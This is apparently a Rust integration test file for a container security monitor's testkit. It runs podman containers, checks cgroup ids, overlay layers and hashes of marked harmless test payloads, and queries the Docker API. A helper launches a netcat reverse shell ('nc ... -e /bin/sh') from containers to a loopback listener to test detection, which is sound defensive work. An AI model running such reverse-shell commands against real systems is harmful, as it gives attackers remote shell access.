//! The testkit against real podman containers (as root; skipped with a reason otherwise).

use std::fs;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};
use ward_testkit::{
    cgroup_id_of_dir, require_containers, Container, Network, PodmanService, ShellListener,
};

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[test]
fn busybox_container_runs_and_execs() {
    let images = require_containers!();
    let started = Instant::now();
    let c = Container::run("tk-busybox", &images.busybox, &["sleep", "600"]).unwrap();
    eprintln!("busybox container started in {:?}", started.elapsed());
    assert_eq!(c.id().len(), 64);
    assert_eq!(
        c.exec_ok(&["id"]).unwrap().trim(),
        "uid=0(root) gid=0(root)"
    );
    assert_eq!(c.exec_ok(&["whoami"]).unwrap().trim(), "root");
    // The init process is the container's pid 1 and the host pid we hold.
    let comm = fs::read_to_string(format!("/proc/{}/comm", c.pid())).unwrap();
    assert_eq!(comm.trim(), "sleep");
    let out = c.exec(&["sh", "-c", "exit 3"]).unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(c.image_id().unwrap(), images.busybox_id);
}

#[test]
fn debian_container_has_the_tools_tests_need() {
    let images = require_containers!();
    let c = Container::run("tk-debian", &images.debian, &["sleep", "600"]).unwrap();
    assert!(c
        .exec_ok(&["id"])
        .unwrap()
        .starts_with("uid=0(root) gid=0(root)"));
    let py = c
        .exec_ok(&[
            "python3",
            "-c",
            "import json, socket, subprocess, pty; print('py ok')",
        ])
        .unwrap();
    assert_eq!(py.trim(), "py ok");
    assert_eq!(c.exec_ok(&["perl", "-e", "print 40 + 2"]).unwrap(), "42");
    // tcc compiles and links a C program inside the container.
    let out = c
        .exec_with_stdin(
            &[
                "sh",
                "-c",
                "cat > /tmp/t.c && tcc -o /tmp/t /tmp/t.c && /tmp/t",
            ],
            b"#include <stdio.h>\nint main(void) { puts(\"tcc ok\"); return 0; }\n",
        )
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "tcc ok");
    // `nc` is netcat-traditional (has -e); netcat-openbsd and socat are there too.
    for tool in ["nc.traditional", "nc.openbsd", "socat", "bash", "ps"] {
        c.exec_ok(&["sh", "-c", &format!("command -v {tool}")])
            .unwrap_or_else(|e| panic!("{tool}: {e}"));
    }
    let nc = c.exec_ok(&["readlink", "-f", "/bin/nc"]).unwrap();
    assert_eq!(nc.trim(), "/usr/bin/nc.traditional");
}

#[test]
fn cgroup_path_and_id_match_what_bpf_sees() {
    let images = require_containers!();
    let c = Container::run("tk-cgroup", &images.busybox, &["sleep", "600"]).unwrap();
    assert_eq!(
        c.cgroup_path().unwrap(),
        format!("/libpod_parent/libpod-{}", c.id())
    );
    let dir = c.cgroup_dir().unwrap();
    assert!(dir.is_dir(), "{}", dir.display());
    // bpf_get_current_cgroup_id() returns the kernfs node id, which name_to_handle_at exposes
    // and which is the directory's inode number.
    let id = c.cgroup_id().unwrap();
    assert_eq!(cgroup_id_of_dir(&dir).unwrap(), id);
    // A process exec'd later lands in the same cgroup.
    let line = c
        .exec_ok(&["sh", "-c", "grep '^0::' /proc/self/cgroup"])
        .unwrap();
    // Inside, the cgroup namespace is the host's (cgroupns=host on cgroup v1/hybrid).
    assert_eq!(line.trim(), format!("0::{}", c.cgroup_path().unwrap()));
}

#[test]
fn payload_in_image_has_the_recorded_hash() {
    let images = require_containers!();
    let c = Container::run("tk-payload", &images.busybox, &["sleep", "600"]).unwrap();
    let in_image = fs::read(c.host_path(&images.payload_path)).unwrap();
    assert_eq!(sha256_hex(&in_image), images.payload_sha256);
    let host_copy = fs::read(&images.payload_host_copy).unwrap();
    assert_eq!(sha256_hex(&host_copy), images.payload_sha256);
    let out = c.exec_ok(&[&images.payload_path]).unwrap();
    assert!(out.starts_with("WARD-TEST-PAYLOAD: harmless"), "{out}");
    let feed = fs::read_to_string(&images.intel_feed).unwrap();
    assert!(feed.contains(&format!("{};", images.payload_sha256)));
    assert!(feed.contains(&format!("{};", images.added_payload_sha256)));
    // The same bytes are in the Debian image.
    let d = Container::run("tk-payload-deb", &images.debian, &["sleep", "600"]).unwrap();
    let out = d.exec_ok(&["sha256sum", &images.payload_path]).unwrap();
    assert!(out.starts_with(&images.payload_sha256), "{out}");
}

#[test]
fn image_files_are_lower_and_added_files_upper() {
    let images = require_containers!();
    let c = Container::run("tk-overlay", &images.busybox, &["sleep", "600"]).unwrap();
    let dirs = c.overlay_dirs().unwrap();
    assert!(dirs.lower[0]
        .join("usr/local/bin/ward-test-payload")
        .is_file());
    assert!(!dirs.upper.join("usr/local/bin/ward-test-payload").exists());
    c.copy_in(&images.added_payload_host_copy, "/tmp/dropped")
        .unwrap();
    let upper = dirs.upper.join("tmp/dropped");
    assert_eq!(
        sha256_hex(&fs::read(&upper).unwrap()),
        images.added_payload_sha256
    );
    let out = c.exec_ok(&["/tmp/dropped"]).unwrap();
    assert!(out.starts_with("WARD-TEST-PAYLOAD-ADDED"), "{out}");
    // The container's root mount is that overlay.
    let mountinfo = fs::read_to_string(format!("/proc/{}/mountinfo", c.pid())).unwrap();
    let root = mountinfo
        .lines()
        .find(|l| l.split_whitespace().nth(4) == Some("/"))
        .unwrap();
    assert!(root.contains(" - overlay "), "{root}");
    assert!(
        root.contains(&format!("upperdir={}", dirs.upper.display())),
        "{root}"
    );
}

fn reverse_shell(image: &str, network: Network, nc: &[&str]) -> String {
    let c = Container::builder(image)
        .name_prefix("tk-revshell")
        .network(network)
        .run(&["sleep", "600"])
        .unwrap();
    let session = ShellListener::bind()
        .unwrap()
        .serve("id\necho marker-$((6*7))\nexit\n", Duration::from_secs(30));
    let port = session.port().to_string();
    let addr = network.host_loopback_addr().unwrap();
    let mut cmd: Vec<&str> = nc.to_vec();
    cmd.extend([addr, port.as_str(), "-e", "/bin/sh"]);
    c.exec_detached(&cmd).unwrap();
    let session = session.wait().unwrap();
    assert!(session.peer.ip().is_loopback(), "{}", session.peer);
    session.output_str()
}

#[test]
fn reverse_shell_from_debian_reaches_host_listener() {
    let images = require_containers!();
    let out = reverse_shell(&images.debian, Network::Host, &["nc"]);
    assert!(out.contains("uid=0(root)"), "{out}");
    assert!(out.contains("marker-42"), "{out}");
}

#[test]
fn reverse_shell_from_busybox_over_slirp_reaches_host_listener() {
    let images = require_containers!();
    let out = reverse_shell(&images.busybox, Network::Slirp, &["nc"]);
    assert!(out.contains("uid=0(root)"), "{out}");
    assert!(out.contains("marker-42"), "{out}");
}

#[test]
fn docker_api_over_podman_describes_a_container() {
    let images = require_containers!();
    let c = Container::builder(&images.busybox)
        .name_prefix("tk-dockerapi")
        .label("app", "ward-testkit")
        .run(&["sleep", "600"])
        .unwrap();
    let service = PodmanService::start().unwrap();
    let v = service
        .get_json(&format!("/v1.41/containers/{}/json", c.id()))
        .unwrap();
    assert_eq!(v["Id"], c.id());
    assert_eq!(v["Name"], format!("/{}", c.name()));
    assert_eq!(v["Config"]["Image"], images.busybox);
    assert_eq!(v["Image"], format!("sha256:{}", images.busybox_id));
    assert_eq!(v["Config"]["Labels"]["app"], "ward-testkit");
    assert_eq!(v["State"]["Pid"], c.pid());
    assert!(v["Created"].as_str().unwrap().ends_with('Z'));
}
